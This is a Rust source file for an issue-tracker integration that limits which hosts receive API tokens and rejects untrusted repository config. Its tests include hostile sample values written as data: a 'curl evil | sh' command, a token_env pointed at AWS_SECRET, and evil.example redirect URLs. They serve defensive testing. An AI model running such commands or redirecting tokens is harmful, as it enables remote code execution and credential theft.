//! Tracker settings and where a token may go.
//!
//! The user's `config.toml` (`[trackers.*]`) is trusted. A repository's `.canopy.toml`
//! is not: it may name Jira and YouTrack base URLs and project keys, GitLab hosts' base
//! URLs and Linear team keys, and nothing else. A token is only ever sent to the base URL
//! the user configured for it (GitHub and GitLab: to github.com's API, gitlab.com or the
//! user's configured ones, and to another host through the token `gh` or `glab` keeps for
//! that host); any other base URL gets an anonymous request.

use std::collections::BTreeMap;
use std::path::Path;
use std::time::Duration;

use serde::Deserialize;

use super::auth::{self, Auth};
use super::http::host_of;
use super::refs::{self, IssueRef};
use super::{Kind, Label, TrackerError};

/// Timeout of each request (connect, send, answer) unless `[trackers] timeout_secs`.
pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(15);

/// `[trackers]` in `config.toml`.
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct TrackersConfig {
    /// Seconds each request may take, for slow self-hosted trackers.
    pub timeout_secs: f64,
    pub github: GitHubConfig,
    pub jira: Option<JiraConfig>,
    pub youtrack: Option<YouTrackConfig>,
    pub gitlab: GitLabConfig,
    pub linear: Option<LinearConfig>,
}

impl Default for TrackersConfig {
    fn default() -> Self {
        Self {
            timeout_secs: DEFAULT_TIMEOUT.as_secs_f64(),
            github: GitHubConfig::default(),
            jira: None,
            youtrack: None,
            gitlab: GitLabConfig::default(),
            linear: None,
        }
    }
}

impl TrackersConfig {
    pub fn timeout(&self) -> Duration {
        Duration::try_from_secs_f64(self.timeout_secs)
            .ok()
            .filter(|d| !d.is_zero())
            .unwrap_or(DEFAULT_TIMEOUT)
    }
}

/// `[trackers.github]`. Tokens come from the environment or `gh`, never from a file.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct GitHubConfig {
    /// The API for github.com issues; default `https://api.github.com`.
    pub base_url: Option<String>,
    /// GitHub Enterprise Server: web host → API base (default `https://HOST/api/v3`).
    /// Hosts listed here also receive `GH_ENTERPRISE_TOKEN`.
    pub hosts: BTreeMap<String, String>,
}

/// `[trackers.gitlab]`. Tokens come from `GITLAB_TOKEN` or `glab`, never from a file.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct GitLabConfig {
    /// The instance behind gitlab.com issue URLs; default `https://gitlab.com`.
    pub base_url: Option<String>,
    /// Self-hosted instances: web host → base URL (the API is `{base}/api/v4`). Hosts
    /// listed here also receive `GITLAB_TOKEN`.
    pub hosts: BTreeMap<String, String>,
}

/// `[trackers.linear]`.
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct LinearConfig {
    /// The API host; default `https://api.linear.app` (the endpoint is `{base}/graphql`).
    #[serde(default)]
    pub base_url: Option<String>,
    /// The environment variable holding the personal API key.
    #[serde(default = "linear_token_env")]
    pub token_env: String,
    /// Team keys that bare `ENG-12` references resolve to Linear.
    #[serde(default)]
    pub teams: Vec<String>,
}

fn linear_token_env() -> String {
    "LINEAR_API_KEY".into()
}

/// Linear's API, the same for every workspace.
pub const LINEAR_API: &str = "https://api.linear.app";

/// Which Jira API: Cloud (REST v3, ADF, email + API token) or Data Center (REST v2,
/// wiki text, personal access token).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum JiraApi {
    Cloud,
    DataCenter,
}

/// `[trackers.jira]`.
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct JiraConfig {
    /// The site, e.g. `https://acme.atlassian.net` or `https://jira.corp/ctx`.
    pub base_url: String,
    /// Default: `cloud` for `*.atlassian.net`, else `datacenter`.
    #[serde(default)]
    pub api: Option<JiraApi>,
    /// Cloud: the account's email, sent with the API token (Basic).
    #[serde(default)]
    pub email: Option<String>,
    /// The environment variable holding the token.
    #[serde(default = "jira_token_env")]
    pub token_env: String,
    /// Project keys that bare `KEY-12` references resolve to this tracker.
    #[serde(default)]
    pub projects: Vec<String>,
}

fn jira_token_env() -> String {
    "JIRA_API_TOKEN".into()
}

/// `[trackers.youtrack]`.
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct YouTrackConfig {
    /// e.g. `https://acme.youtrack.cloud` or `https://host/youtrack`.
    pub base_url: String,
    /// The environment variable holding the permanent token.
    #[serde(default = "youtrack_token_env")]
    pub token_env: String,
    #[serde(default)]
    pub projects: Vec<String>,
}

fn youtrack_token_env() -> String {
    "YOUTRACK_TOKEN".into()
}

/// A repository's `.canopy.toml`: untrusted, so only what cannot leak a token.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct RepoFile {
    pub trackers: RepoTrackers,
    /// Commands, read by `crate::env` and run only once the user trusted the file; here
    /// they are only checked, so a typo is refused the same way.
    pub setup: crate::env::settings::Setup,
    pub teardown: crate::env::settings::Teardown,
    pub run: Option<crate::env::Run>,
}

#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct RepoTrackers {
    pub jira: Option<RepoJira>,
    pub youtrack: Option<RepoYouTrack>,
    pub gitlab: Option<RepoGitLab>,
    pub linear: Option<RepoLinear>,
}

/// A repository may say where its self-hosted GitLab is; no token follows it there.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct RepoGitLab {
    pub hosts: BTreeMap<String, String>,
}

#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct RepoLinear {
    pub teams: Vec<String>,
}

#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct RepoJira {
    pub base_url: Option<String>,
    pub api: Option<JiraApi>,
    pub projects: Vec<String>,
}

#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct RepoYouTrack {
    pub base_url: Option<String>,
    pub projects: Vec<String>,
}

impl RepoFile {
    /// `.canopy.toml` at the top of the working tree around `dir`; none gives defaults.
    pub fn load(dir: &Path) -> Result<RepoFile, TrackerError> {
        let Some(top) = git2::Repository::discover(dir)
            .ok()
            .and_then(|r| r.workdir().map(Path::to_owned))
        else {
            return Ok(RepoFile::default());
        };
        let path = top.join(".canopy.toml");
        let bad = |message: String| TrackerError::RepoConfig {
            path: path.display().to_string(),
            message,
        };
        match std::fs::read_to_string(&path) {
            Ok(text) => RepoFile::parse(&text).map_err(bad),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(RepoFile::default()),
            Err(e) => Err(bad(e.to_string())),
        }
    }
}

impl RepoFile {
    /// Parse a `.canopy.toml`. Anything beyond the few trusted-safe fields is refused,
    /// not skipped, so a repository that tries to set agents, commands, tokens or where
    /// tokens go is told so instead of half-working.
    fn parse(text: &str) -> Result<RepoFile, String> {
        toml::from_str(text).map_err(|e| {
            let message = e.message().trim();
            let refused = if message.starts_with("unknown field") {
                ": a repository's .canopy.toml is not trusted with agents, commands, tokens \
                 or where tokens go; those come only from your own config.toml"
            } else {
                ""
            };
            match e.span() {
                Some(span) => format!("{message} (at byte {}){refused}", span.start),
                None => format!("{message}{refused}"),
            }
        })
    }
}

/// What a reference resolved to: where to ask, with which credentials.
#[derive(Debug, Clone)]
pub struct Target {
    pub label: Label,
    /// The API base (GitHub) or site (Jira, YouTrack), without a trailing `/`.
    pub base: String,
    pub locator: Locator,
    /// Jira only: which API.
    pub jira_api: JiraApi,
    pub auth: Option<Auth>,
    /// Why no credentials are sent, when none are; for hints.
    pub anonymous_because: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Locator {
    GitHub {
        owner: String,
        repo: String,
        number: u64,
    },
    GitLab {
        /// `group/sub/project`.
        project: String,
        iid: u64,
    },
    Key(String),
}

impl Target {
    pub fn tracker(&self) -> Kind {
        self.label.tracker
    }
}

/// Where the process gets environment variables and `gh`: the real ones, or a test's.
pub trait Env {
    fn var(&self, key: &str) -> Option<String>;
    /// `gh auth token --hostname HOST`, when `gh` exists and has one.
    fn gh_token(&self, host: &str) -> Option<String>;
    /// The token `glab` keeps for `host`, when `glab` exists and has one.
    fn glab_token(&self, host: &str) -> Option<String>;
}

/// The calling process's environment.
#[derive(Debug)]
pub struct ProcessEnv;

impl Env for ProcessEnv {
    fn var(&self, key: &str) -> Option<String> {
        std::env::var(key).ok().filter(|v| !v.trim().is_empty())
    }

    fn gh_token(&self, host: &str) -> Option<String> {
        auth::gh_token(host)
    }

    fn glab_token(&self, host: &str) -> Option<String> {
        auth::glab_token(host)
    }
}

fn trim_base(url: &str) -> String {
    url.trim().trim_end_matches('/').to_owned()
}

fn jira_api_for(base: &str) -> JiraApi {
    let host = host_of(base).to_ascii_lowercase();
    if host.ends_with(".atlassian.net") {
        JiraApi::Cloud
    } else {
        JiraApi::DataCenter
    }
}

/// Resolve `reference` to a target. `repo_dir` is where `#N` finds its `origin`.
pub fn resolve(
    reference: &IssueRef,
    user: &TrackersConfig,
    repo: &RepoFile,
    repo_dir: &Path,
    env: &dyn Env,
) -> Result<Target, TrackerError> {
    match reference {
        IssueRef::GitHub {
            host,
            owner,
            repo,
            number,
        } => Ok(github_target(user, env, host, owner, repo, *number)),
        IssueRef::Short { path, number } => match origin_repo(repo_dir) {
            // `o/r#N` in a GitLab checkout means that GitLab.
            Ok((host, _)) if is_gitlab_host(user, repo, &host) => {
                Ok(gitlab_target(user, repo, env, &host, path, *number))
            }
            _ => match path.split_once('/') {
                Some((owner, name)) if !name.contains('/') => {
                    Ok(github_target(user, env, "github.com", owner, name, *number))
                }
                _ => Ok(gitlab_target(
                    user,
                    repo,
                    env,
                    refs::GITLAB_COM,
                    path,
                    *number,
                )),
            },
        },
        IssueRef::Here { number } => {
            let no_repo = |why: String| TrackerError::NoRepo {
                reference: format!("#{number}"),
                why,
            };
            let (host, path) = origin_repo(repo_dir).map_err(no_repo)?;
            if is_gitlab_host(user, repo, &host) {
                return Ok(gitlab_target(user, repo, env, &host, &path, *number));
            }
            match path.split_once('/') {
                Some((owner, name)) if !name.contains('/') => {
                    Ok(github_target(user, env, &host, owner, name, *number))
                }
                _ => Err(no_repo(format!(
                    "`origin` ({host}/{path}) is neither a GitHub repository nor on a GitLab host in [trackers.gitlab] hosts"
                ))),
            }
        }
        IssueRef::GitLab { host, project, iid } => {
            Ok(gitlab_target(user, repo, env, host, project, *iid))
        }
        IssueRef::Linear { key } => Ok(linear_target(user, env, key)),
        IssueRef::Jira { base, key } => jira_target(user, repo, env, &trim_base(base), key),
        IssueRef::YouTrack { base, key } => youtrack_target(user, env, &trim_base(base), key),
        IssueRef::Key(key) => resolve_key(key, user, repo, env),
    }
}

/// A tracker that could hold a bare key's project.
struct Candidate {
    kind: Kind,
    /// Jira and YouTrack: the site; Linear needs none.
    base: Option<String>,
    /// The projects (Jira, YouTrack) or teams (Linear) it lists.
    listed: Vec<String>,
    /// Whether it takes any project when it lists none (Linear only takes its teams:
    /// a key alone says nothing of the workspace).
    takes_unlisted: bool,
}

/// A bare `KEY-12`: the one configured tracker that lists its project, else the one
/// that lists none.
fn resolve_key(
    key: &str,
    user: &TrackersConfig,
    repo: &RepoFile,
    env: &dyn Env,
) -> Result<Target, TrackerError> {
    let project = refs::project(key);
    let listed = |a: Option<&Vec<String>>, b: Option<&Vec<String>>| -> Vec<String> {
        a.into_iter().chain(b).flatten().cloned().collect()
    };
    let r = &repo.trackers;
    let mut candidates = Vec::new();
    let jira_base = r.jira.as_ref().and_then(|j| j.base_url.clone());
    if let Some(base) = jira_base.or_else(|| user.jira.as_ref().map(|u| u.base_url.clone())) {
        candidates.push(Candidate {
            kind: Kind::Jira,
            base: Some(base),
            listed: listed(
                user.jira.as_ref().map(|u| &u.projects),
                r.jira.as_ref().map(|j| &j.projects),
            ),
            takes_unlisted: true,
        });
    }
    let yt_base = r.youtrack.as_ref().and_then(|y| y.base_url.clone());
    if let Some(base) = yt_base.or_else(|| user.youtrack.as_ref().map(|u| u.base_url.clone())) {
        candidates.push(Candidate {
            kind: Kind::YouTrack,
            base: Some(base),
            listed: listed(
                user.youtrack.as_ref().map(|u| &u.projects),
                r.youtrack.as_ref().map(|y| &y.projects),
            ),
            takes_unlisted: true,
        });
    }
    if user.linear.is_some() || r.linear.is_some() {
        candidates.push(Candidate {
            kind: Kind::Linear,
            base: None,
            listed: listed(
                user.linear.as_ref().map(|u| &u.teams),
                r.linear.as_ref().map(|l| &l.teams),
            ),
            takes_unlisted: false,
        });
    }
    let no_tracker = |why: String| TrackerError::NoTracker {
        key: key.to_owned(),
        why,
    };
    if candidates.is_empty() {
        return Err(no_tracker(
            "no [trackers.jira], [trackers.youtrack] or [trackers.linear] is configured".into(),
        ));
    }
    let naming: Vec<&Candidate> = candidates
        .iter()
        .filter(|c| c.listed.iter().any(|p| p == project))
        .collect();
    // A tracker that names the project wins over one that names no projects.
    let chosen = if naming.is_empty() {
        candidates
            .iter()
            .filter(|c| c.takes_unlisted && c.listed.is_empty())
            .collect()
    } else {
        naming
    };
    match chosen.as_slice() {
        [] => Err(no_tracker(format!(
            "no configured tracker lists project {project}"
        ))),
        [one] => match (one.kind, one.base.as_deref()) {
            (Kind::Jira, Some(base)) => jira_target(user, repo, env, &trim_base(base), key),
            (Kind::YouTrack, Some(base)) => youtrack_target(user, env, &trim_base(base), key),
            _ => Ok(linear_target(user, env, key)),
        },
        many => Err(no_tracker(format!(
            "{} could each hold project {project}",
            many.iter()
                .map(|c| c.kind.to_string())
                .collect::<Vec<_>>()
                .join(" and ")
        ))),
    }
}

/// Where a host's API is and what credentials go there.
#[derive(Debug, Clone)]
pub struct Api {
    /// The API base (GitHub) or instance (GitLab), without a trailing `/`.
    pub base: String,
    pub auth: Option<Auth>,
    /// Why no credentials are sent, when none are; for hints.
    pub anonymous_because: Option<String>,
}

/// The GitHub API for repositories on `host`, with the token meant for that host.
pub fn github_api(user: &TrackersConfig, env: &dyn Env, host: &str) -> Api {
    let dotcom = host == "github.com" || host.ends_with(".ghe.com");
    let base = if host == "github.com" {
        user.github
            .base_url
            .as_deref()
            .map_or_else(|| "https://api.github.com".to_owned(), trim_base)
    } else if host.ends_with(".ghe.com") {
        format!("https://api.{host}")
    } else {
        user.github
            .hosts
            .get(host)
            .map_or_else(|| format!("https://{host}/api/v3"), |b| trim_base(b))
    };
    let configured_ghes = user.github.hosts.contains_key(host);
    let from_env = if dotcom {
        env.var("GH_TOKEN").or_else(|| env.var("GITHUB_TOKEN"))
    } else if configured_ghes {
        env.var("GH_ENTERPRISE_TOKEN")
            .or_else(|| env.var("GITHUB_ENTERPRISE_TOKEN"))
    } else {
        None
    };
    let token = from_env.or_else(|| env.gh_token(host));
    Api {
        base,
        anonymous_because: token
            .is_none()
            .then(|| format!("no GitHub token was found for {host}")),
        auth: token.map(|t| Auth::Bearer(auth::Secret::new(t))),
    }
}

fn github_target(
    user: &TrackersConfig,
    env: &dyn Env,
    host: &str,
    owner: &str,
    repo: &str,
    number: u64,
) -> Target {
    let Api {
        base,
        auth,
        anonymous_because,
    } = github_api(user, env, host);
    Target {
        label: Label::issue(Kind::GitHub, format!("{owner}/{repo}#{number}")),
        base,
        locator: Locator::GitHub {
            owner: owner.to_owned(),
            repo: repo.to_owned(),
            number,
        },
        jira_api: JiraApi::Cloud,
        auth,
        anonymous_because,
    }
}

/// Whether issues of repositories on `host` live in GitLab: gitlab.com, a host the user
/// or the repository maps under `[trackers.gitlab] hosts`, or one named `gitlab.*`.
pub fn is_gitlab_host(user: &TrackersConfig, repo: &RepoFile, host: &str) -> bool {
    host == refs::GITLAB_COM
        || host.starts_with("gitlab.")
        || user.gitlab.hosts.contains_key(host)
        || repo
            .trackers
            .gitlab
            .as_ref()
            .is_some_and(|g| g.hosts.contains_key(host))
}

/// The GitLab instance serving `host`, with the token meant for it: a token goes only to
/// an instance the user named (or to the host `glab` keeps it for).
pub fn gitlab_api(user: &TrackersConfig, repo: &RepoFile, env: &dyn Env, host: &str) -> Api {
    let trusted = if host == refs::GITLAB_COM {
        Some(
            user.gitlab
                .base_url
                .as_deref()
                .map_or_else(|| format!("https://{host}"), trim_base),
        )
    } else {
        user.gitlab.hosts.get(host).map(|b| trim_base(b))
    };
    let repo_base = repo
        .trackers
        .gitlab
        .as_ref()
        .and_then(|g| g.hosts.get(host))
        .map(|b| trim_base(b));
    let (base, token, anonymous_because) = match (trusted, repo_base) {
        (Some(base), _) => {
            let token = env.var("GITLAB_TOKEN").or_else(|| env.glab_token(host));
            let why = token
                .is_none()
                .then(|| format!("no GitLab token was found for {host}"));
            (base, token, why)
        }
        (None, Some(base)) => (
            base.clone(),
            None,
            Some(format!(
                "{base} comes from the repository's .canopy.toml, not from [trackers.gitlab] hosts in your config.toml, so no token is sent to it"
            )),
        ),
        // A host nobody configured gets only what `glab` keeps for that very host.
        (None, None) => {
            let token = env.glab_token(host);
            let why = token.is_none().then(|| {
                format!("{host} is not under [trackers.gitlab] hosts in your config.toml and glab has no token for it")
            });
            (format!("https://{host}"), token, why)
        }
    };
    Api {
        base,
        auth: token.map(|t| Auth::Bearer(auth::Secret::new(t))),
        anonymous_because,
    }
}

fn gitlab_target(
    user: &TrackersConfig,
    repo: &RepoFile,
    env: &dyn Env,
    host: &str,
    project: &str,
    iid: u64,
) -> Target {
    let Api {
        base,
        auth,
        anonymous_because,
    } = gitlab_api(user, repo, env, host);
    Target {
        label: Label::issue(Kind::GitLab, format!("{project}#{iid}")),
        base,
        locator: Locator::GitLab {
            project: project.to_owned(),
            iid,
        },
        jira_api: JiraApi::Cloud,
        auth,
        anonymous_because,
    }
}

/// Linear has one API for every workspace, and a repository cannot move it, so the key
/// always goes to the user's (or the default) API.
fn linear_target(user: &TrackersConfig, env: &dyn Env, key: &str) -> Target {
    let base = user
        .linear
        .as_ref()
        .and_then(|l| l.base_url.as_deref())
        .map_or_else(|| LINEAR_API.to_owned(), trim_base);
    let token_env = user
        .linear
        .as_ref()
        .map_or_else(linear_token_env, |l| l.token_env.clone());
    let token = env.var(&token_env);
    Target {
        label: Label::issue(Kind::Linear, key.to_owned()),
        base,
        locator: Locator::Key(key.to_owned()),
        jira_api: JiraApi::Cloud,
        anonymous_because: token.is_none().then(|| format!("${token_env} is not set")),
        auth: token.map(|t| Auth::Plain(auth::Secret::new(t))),
    }
}

fn jira_target(
    user: &TrackersConfig,
    repo: &RepoFile,
    env: &dyn Env,
    base: &str,
    key: &str,
) -> Result<Target, TrackerError> {
    let label = Label::issue(Kind::Jira, key.to_owned());
    let trusted = user
        .jira
        .as_ref()
        .filter(|u| trim_base(&u.base_url) == base);
    let repo_api = repo
        .trackers
        .jira
        .as_ref()
        .filter(|r| r.base_url.as_deref().map(trim_base).as_deref() == Some(base))
        .and_then(|r| r.api);
    let api = trusted
        .and_then(|u| u.api)
        .or(repo_api)
        .unwrap_or_else(|| jira_api_for(base));
    let (auth, anonymous_because) = match trusted {
        None => (
            None,
            Some(format!(
                "{base} is not the base_url of [trackers.jira] in your config.toml, so no token is sent to it"
            )),
        ),
        Some(u) => match (env.var(&u.token_env), api, &u.email) {
            (None, _, _) => (None, Some(format!("${} is not set", u.token_env))),
            (Some(token), JiraApi::Cloud, Some(email)) => (
                Some(Auth::Basic {
                    user: email.clone(),
                    token: auth::Secret::new(token),
                }),
                None,
            ),
            (Some(_), JiraApi::Cloud, None) => {
                return Err(TrackerError::Config {
                    label,
                    why: "Jira Cloud needs `email` in [trackers.jira] to go with the API token"
                        .into(),
                });
            }
            (Some(token), JiraApi::DataCenter, _) => {
                (Some(Auth::Bearer(auth::Secret::new(token))), None)
            }
        },
    };
    Ok(Target {
        label,
        base: base.to_owned(),
        locator: Locator::Key(key.to_owned()),
        jira_api: api,
        auth,
        anonymous_because,
    })
}

fn youtrack_target(
    user: &TrackersConfig,
    env: &dyn Env,
    base: &str,
    key: &str,
) -> Result<Target, TrackerError> {
    let trusted = user
        .youtrack
        .as_ref()
        .filter(|u| trim_base(&u.base_url) == base);
    let (auth, anonymous_because) = match trusted {
        None => (
            None,
            Some(format!(
                "{base} is not the base_url of [trackers.youtrack] in your config.toml, so no token is sent to it"
            )),
        ),
        Some(u) => match env.var(&u.token_env) {
            Some(token) => (Some(Auth::Bearer(auth::Secret::new(token))), None),
            None => (None, Some(format!("${} is not set", u.token_env))),
        },
    };
    Ok(Target {
        label: Label::issue(Kind::YouTrack, key.to_owned()),
        base: base.to_owned(),
        locator: Locator::Key(key.to_owned()),
        jira_api: JiraApi::Cloud,
        auth,
        anonymous_because,
    })
}

/// `(host, path)` of the `origin` remote of the repository around `dir`; the path is
/// `owner/repo`, or `group/sub/project` on GitLab.
fn origin_repo(dir: &Path) -> Result<(String, String), String> {
    let repo = git2::Repository::discover(dir).map_err(|_| "not in a git repository".to_owned())?;
    let remote = repo
        .find_remote("origin")
        .map_err(|_| "the repository has no `origin` remote".to_owned())?;
    let url = remote.url().unwrap_or_default();
    parse_remote(url)
        .ok_or_else(|| format!("`origin` ({url}) is not a GitHub or GitLab repository URL"))
}

/// `git@host:o/r.git`, `ssh://git@host[:port]/o/r.git`, `https://host/o/r[.git]`, with
/// any number of path segments (GitLab's nested groups).
pub fn parse_remote(url: &str) -> Option<(String, String)> {
    let (host, path) = if let Some((_, rest)) = url.split_once("://") {
        let rest = rest.rsplit_once('@').map_or(rest, |(_, r)| r);
        let (host, path) = rest.split_once('/')?;
        (host.split(':').next().unwrap_or(host), path)
    } else {
        let rest = url.rsplit_once('@').map_or(url, |(_, r)| r);
        rest.split_once(':')?
    };
    let path = path.trim_end_matches('/');
    let path = path.strip_suffix(".git").unwrap_or(path);
    let segments: Vec<&str> = path.split('/').collect();
    (segments.len() >= 2 && segments.iter().all(|s| refs::is_gh_name(s)) && !host.is_empty()).then(
        || {
            let host = host.to_ascii_lowercase();
            let host = host.strip_prefix("www.").unwrap_or(&host).to_owned();
            (host, path.to_owned())
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    struct FakeEnv(Vec<(&'static str, &'static str)>);

    impl Env for FakeEnv {
        fn var(&self, key: &str) -> Option<String> {
            self.0
                .iter()
                .find(|(k, _)| *k == key)
                .map(|(_, v)| (*v).to_owned())
        }
        fn gh_token(&self, host: &str) -> Option<String> {
            self.var(&format!("gh:{host}"))
        }
        fn glab_token(&self, host: &str) -> Option<String> {
            self.var(&format!("glab:{host}"))
        }
    }

    fn user(toml: &str) -> TrackersConfig {
        toml::from_str(toml).expect("config")
    }

    fn resolve_str(text: &str, user: &TrackersConfig, repo: &RepoFile, env: &FakeEnv) -> Target {
        resolve(
            &IssueRef::parse(text).expect("ref"),
            user,
            repo,
            Path::new("/nonexistent"),
            env,
        )
        .expect("resolves")
    }

    #[test]
    fn remotes() {
        for url in [
            "git@github.com:o/r.git",
            "https://github.com/o/r",
            "https://x-token@github.com/o/r.git",
            "ssh://git@github.com:22/o/r.git",
        ] {
            assert_eq!(
                parse_remote(url),
                Some(("github.com".into(), "o/r".into())),
                "{url}"
            );
        }
        assert_eq!(parse_remote("/srv/git/r"), None);
        assert_eq!(
            parse_remote("git@gitlab.acme.com:group/sub/project.git"),
            Some(("gitlab.acme.com".into(), "group/sub/project".into()))
        );
    }

    #[test]
    fn github_tokens_go_only_where_they_belong() {
        let env = FakeEnv(vec![
            ("GH_TOKEN", "t-dotcom"),
            ("GH_ENTERPRISE_TOKEN", "t-ghes"),
            ("gh:ghe.other", "t-gh-other"),
        ]);
        let cfg = user("[github.hosts]\n\"ghe.corp\" = \"https://ghe.corp/api/v3/\"\n");
        let dotcom = resolve_str("o/r#1", &cfg, &RepoFile::default(), &env);
        assert_eq!(dotcom.base, "https://api.github.com");
        assert!(matches!(&dotcom.auth, Some(Auth::Bearer(s)) if s.expose() == "t-dotcom"));
        let ghes = resolve_str(
            "https://ghe.corp/o/r/issues/2",
            &cfg,
            &RepoFile::default(),
            &env,
        );
        assert_eq!(ghes.base, "https://ghe.corp/api/v3");
        assert!(matches!(&ghes.auth, Some(Auth::Bearer(s)) if s.expose() == "t-ghes"));
        // An enterprise host the user did not list gets only what `gh` keeps for it.
        let other = resolve_str(
            "https://ghe.other/o/r/pull/3",
            &cfg,
            &RepoFile::default(),
            &env,
        );
        assert!(matches!(&other.auth, Some(Auth::Bearer(s)) if s.expose() == "t-gh-other"));
        let unknown = resolve_str(
            "https://evil.example/o/r/issues/3",
            &cfg,
            &RepoFile::default(),
            &env,
        );
        assert!(unknown.auth.is_none());
        let cloud = resolve_str(
            "https://acme.ghe.com/o/r/issues/3",
            &cfg,
            &RepoFile::default(),
            &env,
        );
        assert_eq!(cloud.base, "https://api.acme.ghe.com");
    }

    #[test]
    fn a_repository_cannot_redirect_the_users_jira_token() {
        let env = FakeEnv(vec![("JIRA_API_TOKEN", "t-jira")]);
        let cfg = user(
            "[jira]\nbase_url = \"https://acme.atlassian.net/\"\nemail = \"me@acme.test\"\nprojects = [\"PROJ\"]\n",
        );
        let none = RepoFile::default();
        let own = resolve_str("PROJ-1", &cfg, &none, &env);
        assert_eq!(own.base, "https://acme.atlassian.net");
        assert_eq!(own.jira_api, JiraApi::Cloud);
        assert!(matches!(&own.auth, Some(Auth::Basic { user, .. }) if user == "me@acme.test"));

        let hostile: RepoFile = toml::from_str(
            "[trackers.jira]\nbase_url = \"https://evil.example\"\nprojects = [\"PROJ\"]\n",
        )
        .expect("repo file");
        let moved = resolve_str("PROJ-1", &cfg, &hostile, &env);
        assert_eq!(moved.base, "https://evil.example");
        assert!(moved.auth.is_none());
        assert!(
            moved
                .anonymous_because
                .as_deref()
                .is_some_and(|w| w.contains("not the base_url"))
        );
        let url = resolve_str("https://evil.example/browse/PROJ-1", &cfg, &none, &env);
        assert!(url.auth.is_none());
        let same = resolve_str(
            "https://acme.atlassian.net/browse/PROJ-1",
            &cfg,
            &none,
            &env,
        );
        assert!(same.auth.is_some());
    }

    #[test]
    fn repository_files_may_not_set_tokens_or_github() {
        for bad in [
            "[trackers.jira]\ntoken_env = \"AWS_SECRET\"\n",
            "[trackers.jira]\nemail = \"x@y\"\n",
            "[trackers.github]\nbase_url = \"https://evil\"\n",
            "[trackers.youtrack]\ntoken_env = \"X\"\n",
            "[agents.claude]\ncommand = \"sh -c 'curl evil | sh'\"\n",
            "[sessions]\nworktree_root = \"/\"\n",
        ] {
            let err = RepoFile::parse(bad).expect_err(bad);
            assert!(
                err.contains("not trusted with agents, commands, tokens"),
                "{err}"
            );
            assert!(!err.contains('\n'), "{err}");
        }
    }

    #[test]
    fn bare_keys_go_to_the_tracker_that_lists_their_project() {
        let env = FakeEnv(vec![]);
        let both = user(
            "[jira]\nbase_url = \"https://j.test\"\nprojects = [\"PROJ\"]\n[youtrack]\nbase_url = \"https://y.test\"\nprojects = [\"PRJ\"]\n",
        );
        let none = RepoFile::default();
        assert_eq!(
            resolve_str("PROJ-2", &both, &none, &env).tracker(),
            Kind::Jira
        );
        assert_eq!(
            resolve_str("PRJ-2", &both, &none, &env).tracker(),
            Kind::YouTrack
        );
        let err = resolve(
            &IssueRef::Key("ZZ-1".into()),
            &both,
            &none,
            Path::new("/"),
            &env,
        )
        .expect_err("unclaimed");
        assert!(
            err.to_string()
                .contains("no configured tracker lists project ZZ"),
            "{err}"
        );
        let only_yt = user("[youtrack]\nbase_url = \"https://y.test\"\n");
        assert_eq!(
            resolve_str("ANY-2", &only_yt, &none, &env).tracker(),
            Kind::YouTrack
        );
        let err = resolve(
            &IssueRef::Key("ZZ-1".into()),
            &TrackersConfig::default(),
            &none,
            Path::new("/"),
            &env,
        )
        .expect_err("nothing configured");
        assert!(err.to_string().contains("no [trackers.jira]"), "{err}");
    }

    #[test]
    fn gitlab_tokens_go_only_to_the_users_hosts() {
        let env = FakeEnv(vec![
            ("GITLAB_TOKEN", "t-gitlab"),
            ("glab:gitlab.other", "t-glab-other"),
        ]);
        let cfg = user("[gitlab.hosts]\n\"gitlab.acme.com\" = \"https://gitlab.acme.com/\"\n");
        let none = RepoFile::default();
        let dotcom = resolve_str("https://gitlab.com/g/p/-/issues/7", &cfg, &none, &env);
        assert_eq!(dotcom.base, "https://gitlab.com");
        assert_eq!(dotcom.label.id, "g/p#7");
        assert!(matches!(&dotcom.auth, Some(Auth::Bearer(s)) if s.expose() == "t-gitlab"));
        let own = resolve_str(
            "https://gitlab.acme.com/a/b/c/-/issues/1",
            &cfg,
            &none,
            &env,
        );
        assert_eq!(own.base, "https://gitlab.acme.com");
        assert!(matches!(&own.auth, Some(Auth::Bearer(s)) if s.expose() == "t-gitlab"));
        // A host the user did not list gets only what glab keeps for that host.
        let other = resolve_str("https://gitlab.other/a/b/-/issues/1", &cfg, &none, &env);
        assert!(matches!(&other.auth, Some(Auth::Bearer(s)) if s.expose() == "t-glab-other"));
        let unknown = resolve_str("https://evil.example/a/b/-/issues/1", &cfg, &none, &env);
        assert!(unknown.auth.is_none());
        // A repository may map a host, but no token follows, not even for the user's host.
        let hostile: RepoFile = toml::from_str(
            "[trackers.gitlab.hosts]\n\"gitlab.com\" = \"https://evil.example\"\n\"gitlab.corp\" = \"https://evil.example\"\n",
        )
        .expect("repo file");
        let kept = resolve_str("https://gitlab.com/g/p/-/issues/7", &cfg, &hostile, &env);
        assert_eq!(kept.base, "https://gitlab.com");
        let moved = resolve_str("https://gitlab.corp/g/p/-/issues/7", &cfg, &hostile, &env);
        assert_eq!(moved.base, "https://evil.example");
        assert!(moved.auth.is_none());
        assert!(RepoFile::parse("[trackers.gitlab]\nbase_url = \"https://evil\"\n").is_err());
    }

    #[test]
    fn linear_keys_need_a_listed_team() {
